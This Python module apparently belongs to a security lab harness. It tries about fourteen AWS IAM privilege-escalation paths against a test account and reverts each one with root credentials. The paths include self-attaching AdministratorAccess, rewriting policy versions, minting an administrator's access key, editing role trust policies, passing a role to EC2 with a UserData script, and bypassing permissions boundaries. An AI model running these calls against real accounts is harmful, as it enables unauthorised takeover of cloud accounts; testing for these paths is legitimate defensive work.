"""Small rights that make their holder an administrator: one way each, tried and undone.

A way is what one right of IAM is good for in somebody else's hands. It has worked when the holder
can do afterwards what only an administrator may. AWS pages:
https://docs.aws.amazon.com/IAM/latest/UserGuide/access_controlling.html,
https://docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_use_passrole.html and
https://docs.aws.amazon.com/IAM/latest/UserGuide/access_policies_boundaries.html
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterable, Iterator
from contextlib import AbstractContextManager, contextmanager
from dataclasses import dataclass
from functools import cached_property
from typing import TYPE_CHECKING, Any

from helpers.lab.attacks.machines import amazon_image
from helpers.lab.attacks.step import Step, attempt
from helpers.lab.caller import Caller

if TYPE_CHECKING:
    from helpers.lab.accounts import LabAccount

ADMINISTRATOR_ACCESS = "arn:aws:iam::aws:policy/AdministratorAccess"
EVERYTHING = {
    "Version": "2012-10-17",
    "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}],
}
INLINE = "Helpful"
"""What the attacker calls an inline policy."""

NEW_USER = "temp-worker"
"""What the attacker calls a user."""


@dataclass(frozen=True)
class Target:
    """What of an account the ways work on.

    ``attacker`` is the IAM user who holds the right, ``policy`` the ARN of a managed policy that
    is attached to them. ``administrator`` is an IAM user, ``group`` a group of administrators,
    ``machine_role`` a role and an instance profile of that name for EC2, ``role`` a role that
    trusts the whole account. ``path`` is where new users are made. ``source_ip`` is where the
    attacker calls from; ``None``: from where the account's own people do.
    """

    account: LabAccount
    attacker: str
    policy: str
    administrator: str = "admin"
    group: str = "administrators"
    machine_role: str = "deployer"
    role: str = "emergency"
    path: str = "/"
    source_ip: str | None = None

    @cached_property
    def caller(self) -> Caller:
        found = self.account.caller(self.attacker)
        return found if self.source_ip is None else found.at(self.source_ip)

    @cached_property
    def iam(self) -> Any:
        """IAM, in the attacker's name."""
        return self.caller.client("iam")

    @cached_property
    def owners_iam(self) -> Any:
        """IAM, in the name of the root user, who puts everything back."""
        return self.account.root.client("iam")


Tried = tuple[Step, Caller | None]
"""How the attempt went, and as whom its maker could act then."""


@dataclass(frozen=True)
class Way:
    """One way up: the actions that it takes, and the attempt, which is undone at its end."""

    name: str
    right: tuple[str, ...]
    climb: Callable[[Target, str], AbstractContextManager[Tried]]


def escalate(target: Target, ways: Iterable[Way] | None = None) -> list[Step]:
    """Try each way with the rights that the attacker has now; each is undone before the next.

    A step has worked when somebody lists everything that IAM knows of the account. What stopped
    it is the first call that was refused.
    """
    steps = []
    for way in WAYS if ways is None else ways:
        with way.climb(target, way.name) as (step, risen):
            if step.worked and risen is not None:
                step, _ = attempt(way.name, risen.client("iam").get_account_authorization_details)
            steps.append(step)
    return steps


# The ways -----------------------------------------------------------------------------------------


@contextmanager
def _attach(target: Target, name: str) -> Iterator[Tried]:
    on_oneself = {"UserName": target.attacker, "PolicyArn": ADMINISTRATOR_ACCESS}
    step, _ = attempt(name, target.iam.attach_user_policy, **on_oneself)
    yield step, target.caller
    if step.worked:
        target.owners_iam.detach_user_policy(**on_oneself)


@contextmanager
def _put(target: Target, name: str) -> Iterator[Tried]:
    mine = {"UserName": target.attacker, "PolicyName": INLINE}
    step, _ = attempt(
        name, target.iam.put_user_policy, **mine, PolicyDocument=json.dumps(EVERYTHING)
    )
    yield step, target.caller
    if step.worked:
        target.owners_iam.delete_user_policy(**mine)


@contextmanager
def _rewrite(target: Target, name: str) -> Iterator[Tried]:
    before = target.owners_iam.get_policy(PolicyArn=target.policy)["Policy"]["DefaultVersionId"]
    step, made = attempt(
        name,
        target.iam.create_policy_version,
        PolicyArn=target.policy,
        PolicyDocument=json.dumps(EVERYTHING),
        SetAsDefault=True,
    )
    yield step, target.caller
    if made is not None:
        iam, version = target.owners_iam, made["PolicyVersion"]["VersionId"]
        iam.set_default_policy_version(PolicyArn=target.policy, VersionId=before)
        iam.delete_policy_version(PolicyArn=target.policy, VersionId=version)


@contextmanager
def _join(target: Target, name: str) -> Iterator[Tried]:
    membership = {"UserName": target.attacker, "GroupName": target.group}
    step, _ = attempt(name, target.iam.add_user_to_group, **membership)
    yield step, target.caller
    if step.worked:
        target.owners_iam.remove_user_from_group(**membership)


@contextmanager
def _key_of_another(target: Target, name: str) -> Iterator[Tried]:
    step, made = attempt(name, target.iam.create_access_key, UserName=target.administrator)
    key = _with_key(made)
    yield step, key
    if key is not None:
        target.owners_iam.delete_access_key(
            UserName=target.administrator, AccessKeyId=key.access_key_id
        )


@contextmanager
def _trust_me(target: Target, name: str) -> Iterator[Tried]:
    """A trust policy that names a user is enough for them: no policy of their own has to allow."""
    role = {"RoleName": target.machine_role}
    before = target.owners_iam.get_role(**role)["Role"]["AssumeRolePolicyDocument"]
    statement = {
        "Effect": "Allow",
        "Principal": {"AWS": target.caller.arn},
        "Action": "sts:AssumeRole",
    }
    trust = json.dumps({"Version": "2012-10-17", "Statement": [statement]})
    step, _ = attempt(name, target.iam.update_assume_role_policy, **role, PolicyDocument=trust)
    changed = step.worked
    yield _assumed(target, name, target.machine_role) if changed else (step, None)
    if changed:
        target.owners_iam.update_assume_role_policy(**role, PolicyDocument=json.dumps(before))


@contextmanager
def _assume(target: Target, name: str) -> Iterator[Tried]:
    yield _assumed(target, name, target.role)


def _assumed(target: Target, name: str, role: str) -> Tried:
    step, made = attempt(
        name,
        target.caller.client("sts").assume_role,
        RoleArn=f"arn:aws:iam::{target.account.id}:role/{role}",
        RoleSessionName=target.attacker,
    )
    if made is None:
        return step, None
    parts = made["Credentials"]
    return step, Caller(
        role, "", parts["AccessKeyId"], parts["SecretAccessKey"], parts["SessionToken"]
    )


@contextmanager
def _machine(target: Target, name: str) -> Iterator[Tried]:
    """A machine that carries the role. On AWS the script runs there as the role; the lab's
    machines run nothing, so the attempt ends with a machine that has the role."""
    owners_ec2 = target.account.root.client("ec2")
    image = amazon_image(owners_ec2)  # their ids are public
    step, made = attempt(
        name,
        target.caller.client("ec2").run_instances,
        ImageId=image,
        InstanceType="t3.micro",
        MinCount=1,
        MaxCount=1,
        IamInstanceProfile={"Name": target.machine_role},
        UserData=(
            "#!/bin/sh\n"
            f"aws iam attach-user-policy --user-name {target.attacker} "
            f"--policy-arn {ADMINISTRATOR_ACCESS}\n"
        ),
    )
    yield step, None
    if made is not None:
        ids = [instance["InstanceId"] for instance in made["Instances"]]
        owners_ec2.terminate_instances(InstanceIds=ids)


def _with_key(made: Any) -> Caller | None:
    if made is None:
        return None
    key = made["AccessKey"]
    return Caller(key["UserName"], "", key["AccessKeyId"], key["SecretAccessKey"])


# Ways around a boundary ---------------------------------------------------------------------------


@contextmanager
def _user_without(target: Target, name: str) -> Iterator[Tried]:
    with _new_user(target, name) as (step, _):
        yield _raised(target, name) if step.worked else (step, None)


@contextmanager
def _user_with_wider(target: Target, name: str) -> Iterator[Tried]:
    with _new_user(target, name, PermissionsBoundary=ADMINISTRATOR_ACCESS) as (step, _):
        yield _raised(target, name) if step.worked else (step, None)


@contextmanager
def _user_within(target: Target, name: str) -> Iterator[Tried]:
    with _new_user(target, name, PermissionsBoundary=target.policy) as (step, _):
        yield _raised(target, name) if step.worked else (step, None)


@contextmanager
def _boundary_off(target: Target, name: str) -> Iterator[Tried]:
    with _new_user(target, name, PermissionsBoundary=target.policy) as (step, _):
        if step.worked:
            off = target.iam.delete_user_permissions_boundary
            step, _ = attempt(name, off, UserName=NEW_USER)
        yield _raised(target, name) if step.worked else (step, None)


@contextmanager
def _boundary_widened(target: Target, name: str) -> Iterator[Tried]:
    with _new_user(target, name, PermissionsBoundary=target.policy) as (step, _):
        if step.worked:
            step, _ = attempt(
                name,
                target.iam.put_user_permissions_boundary,
                UserName=NEW_USER,
                PermissionsBoundary=ADMINISTRATOR_ACCESS,
            )
        yield _raised(target, name) if step.worked else (step, None)


@contextmanager
def _boundary_rewritten(target: Target, name: str) -> Iterator[Tried]:
    with (
        _rewrite(target, name) as (step, _),
        _new_user(target, name, PermissionsBoundary=target.policy) as (made, _),
    ):
        step = step if made.worked else made
        yield _raised(target, name) if step.worked else (step, None)


@contextmanager
def _new_user(target: Target, name: str, **boundary: str) -> Iterator[Tried]:
    step, _ = attempt(name, target.iam.create_user, UserName=NEW_USER, Path=target.path, **boundary)
    yield step, None
    if step.worked:
        iam = target.owners_iam
        for key in iam.list_access_keys(UserName=NEW_USER)["AccessKeyMetadata"]:
            iam.delete_access_key(UserName=NEW_USER, AccessKeyId=key["AccessKeyId"])
        for policy in iam.list_attached_user_policies(UserName=NEW_USER)["AttachedPolicies"]:
            iam.detach_user_policy(UserName=NEW_USER, PolicyArn=policy["PolicyArn"])
        iam.delete_user(UserName=NEW_USER)


def _raised(target: Target, name: str) -> Tried:
    """The new user is made an administrator and gets a key."""
    administrator = {"UserName": NEW_USER, "PolicyArn": ADMINISTRATOR_ACCESS}
    step, _ = attempt(name, target.iam.attach_user_policy, **administrator)
    if not step.worked:
        return step, None
    step, made = attempt(name, target.iam.create_access_key, UserName=NEW_USER)
    return step, _with_key(made)


WAYS = (
    Way("attach AdministratorAccess to oneself", ("iam:AttachUserPolicy",), _attach),
    Way("write an inline policy for oneself", ("iam:PutUserPolicy",), _put),
    Way("rewrite the policy that one has", ("iam:CreatePolicyVersion",), _rewrite),
    Way("join the administrators", ("iam:AddUserToGroup",), _join),
    Way("make a key for the administrator", ("iam:CreateAccessKey",), _key_of_another),
    Way("let a role trust oneself", ("iam:UpdateAssumeRolePolicy",), _trust_me),
    Way("step into a role that trusts the account", ("sts:AssumeRole",), _assume),
    Way("pass a role to a machine", ("iam:PassRole", "ec2:RunInstances"), _machine),
)
"""Every way that one right is enough for; two for the last."""

_RAISE = ("iam:CreateUser", "iam:AttachUserPolicy", "iam:CreateAccessKey")

AROUND_A_BOUNDARY = (
    Way("a new user, without a boundary", _RAISE, _user_without),
    Way("a new user, with a wider boundary", _RAISE, _user_with_wider),
    Way("a new user, with the boundary", _RAISE, _user_within),
    Way("take the boundary off", (*_RAISE, "iam:DeleteUserPermissionsBoundary"), _boundary_off),
    Way("put a wider one on", (*_RAISE, "iam:PutUserPermissionsBoundary"), _boundary_widened),
    Way("rewrite the boundary", (*_RAISE, "iam:CreatePolicyVersion"), _boundary_rewritten),
)
"""Ways for somebody who may make users, and shall make them within the boundary
``Target.policy`` only."""
